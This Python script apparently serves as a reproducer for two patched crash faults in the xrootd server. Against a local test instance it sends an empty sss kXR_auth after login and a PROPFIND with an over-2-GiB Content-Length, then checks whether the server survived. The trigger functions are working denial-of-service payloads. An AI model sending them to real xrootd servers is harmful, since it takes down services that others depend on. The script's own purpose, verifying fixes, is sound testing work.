#!/usr/bin/python3
"""Reproducer for the faults patches/xrootd/*/ fix, each one request that stops a stock xrootd:
- 0001 (`--fault auth`, the default): a kXR_auth without credentials (dlen 0) after
  kXR_login, on a server configured with `sec.protocol sss`;
- 0002 (`--fault propfind`): an HTTP PROPFIND with `Content-Length: 3000000000` (XrdHttp).

    reproduce.py [--fault auth|propfind] [--lib-dir DIR] [--json]

Starts a stock xrootd (the system's, or with DIR first on its library path: ferry's patched
libXrdServer.so.3 and libXrdHttpUtils.so.2) on 127.0.0.1 with sss required and XrdHttp on a
second port, sends the request, then checks that the server still runs and still answers a
new connection. Exit status: 0 the server survived, 1 it died (the fault), 2 the reproducer
could not run (no xrootd, not root, no port). Run as root (xrootd -R xrootd).
"""
import json
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
BINDSHIM_C = os.path.join(HERE, "..", "..", "scripts", "testbed", "tools", "bindshim.c")


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def handshake_and_login(s):
    """The client's first words: the handshake with kXR_protocol (XRootD 5 clients send both
    at once), then kXR_login as user 'probe'. Returns the answers."""
    handshake = struct.pack(">iiiii", 0, 0, 0, 4, 2012)
    protocol = struct.pack(">2sHiBB10si", b"\0\1", 3006, 0x500, 0x02, 0, b"\0" * 10, 0)
    login = struct.pack(">2sHi8sBBBBi", b"\0\2", 3007, os.getpid(), b"probe\0\0\0", 0, 0, 5, 0,
                        0)
    s.sendall(handshake + protocol)
    got = recv_answer(s, 8 + 8) + recv_answer(s)
    s.sendall(login)
    return got + recv_answer(s)


def recv_answer(s, head=0):
    """One response (8-byte header + data), after `head` bytes of handshake answer."""
    need, got = head or 8, b""
    while len(got) < need:
        chunk = s.recv(need - len(got))
        if not chunk:
            return got
        got += chunk
    if head:
        return got
    dlen = struct.unpack(">2sHi", got)[2]
    while len(got) < 8 + max(dlen, 0):
        chunk = s.recv(8 + dlen - len(got))
        if not chunk:
            break
        got += chunk
    return got


def empty_auth(port):
    """The trigger: kXR_auth, credtype sss, no credential bytes."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        handshake_and_login(s)
        s.sendall(struct.pack(">2sH12s4si", b"\0\3", 3000, b"\0" * 12, b"sss\0", 0))
        try:
            return recv_answer(s)
        except OSError:
            return b""


def propfind_over_2g(port):
    """The trigger of 0002: XrdHttp reads a PROPFIND body through an int, so a declared length
    over 2 GiB wraps negative and moves its buffer backwards (abort)."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(b"PROPFIND /tmp HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                  b"Content-Length: 3000000000\r\n\r\n")
        s.settimeout(5)
        try:
            return s.recv(4096)
        except OSError:
            return b""


def answers(port):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
            return len(handshake_and_login(s)) > 0
    except OSError:
        return False


def main():
    lib_dir = None
    if "--lib-dir" in sys.argv:
        lib_dir = os.path.abspath(sys.argv[sys.argv.index("--lib-dir") + 1])
    if shutil.which("xrootd") is None or shutil.which("xrdsssadmin") is None:
        print("reproduce: xrootd or xrdsssadmin is not installed", file=sys.stderr)
        return 2
    if os.geteuid() != 0:
        print("reproduce: run as root (xrootd -R xrootd)", file=sys.stderr)
        return 2
    work = tempfile.mkdtemp(prefix="xrd-empty-auth-")
    os.chmod(work, 0o755)
    keytab = os.path.join(work, "server.kt")
    subprocess.run(["xrdsssadmin", "-k", "probe", "-u", "probe", "-g", "probe", "add", keytab],
                   check=True, capture_output=True)
    shutil.chown(keytab, "xrootd", "xrootd")
    os.chmod(keytab, 0o600)
    fault = sys.argv[sys.argv.index("--fault") + 1] if "--fault" in sys.argv else "auth"
    port, http = free_port(), free_port()
    cfg = os.path.join(work, "xrootd.cfg")
    with open(cfg, "w") as f:
        f.write("xrd.port %d\nall.export /tmp\nall.adminpath %s\nall.pidpath %s\n"
                "xrootd.seclib libXrdSec.so\nsec.protocol sss -s %s\nsec.protbind * only sss\n"
                "xrd.protocol XrdHttp:%d libXrdHttp.so\n"
                % (port, work, work, keytab, http))
    shutil.chown(work, "xrootd", "xrootd")
    shim = os.path.join(work, "bindshim.so")
    subprocess.run(["cc", "-O2", "-fPIC", "-shared", "-o", shim, BINDSHIM_C, "-ldl"], check=True)
    env = dict(os.environ, LD_PRELOAD=shim, FERRY_TB_BIND_ADDR="127.0.0.1")
    if lib_dir:
        env["LD_LIBRARY_PATH"] = lib_dir + ":" + env.get("LD_LIBRARY_PATH", "")
    log = os.path.join(work, "xrootd.log")
    server = subprocess.Popen(["timeout", "-k", "5", "120", "xrootd", "-R", "xrootd", "-c", cfg,
                               "-l", log], env=env, stdin=subprocess.DEVNULL,
                              stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT)
    result = {"lib_dir": lib_dir, "port": port, "fault": fault}
    try:
        deadline = time.monotonic() + 30
        while not answers(port):
            if time.monotonic() > deadline or server.poll() is not None:
                print("reproduce: xrootd did not start; see %s" % log, file=sys.stderr)
                return 2
            time.sleep(0.05)
        if fault == "propfind":
            got = propfind_over_2g(http)
            status = got.split(b"\r\n", 1)[0].decode(errors="replace") if got else None
        else:
            got = empty_auth(port)
            status = struct.unpack(">2sHi", got[:8])[1] if len(got) >= 8 else None
        result["answer"] = status  # with the patches: 4003 (kXR_error) or HTTP/1.1 413
        # The crash, when it comes, is immediate: a fresh connection and a short wait tell.
        alive = answers(port)
        deadline = time.monotonic() + 2
        while alive and time.monotonic() < deadline and server.poll() is None:
            time.sleep(0.1)
            alive = answers(port)
        result["survived"] = bool(alive and server.poll() is None)
        result["exit"] = server.poll()
    finally:
        if server.poll() is None:
            server.send_signal(signal.SIGTERM)
            try:
                server.wait(timeout=10)
            except subprocess.TimeoutExpired:
                server.kill()
        shutil.rmtree(work, ignore_errors=True)
    if "--json" in sys.argv:
        print(json.dumps(result))
    else:
        print("xrootd %s the %s request (answer %s)"
              % ("survived" if result["survived"] else "DIED of", fault, status))
    return 0 if result["survived"] else 1


if __name__ == "__main__":
    sys.exit(main())
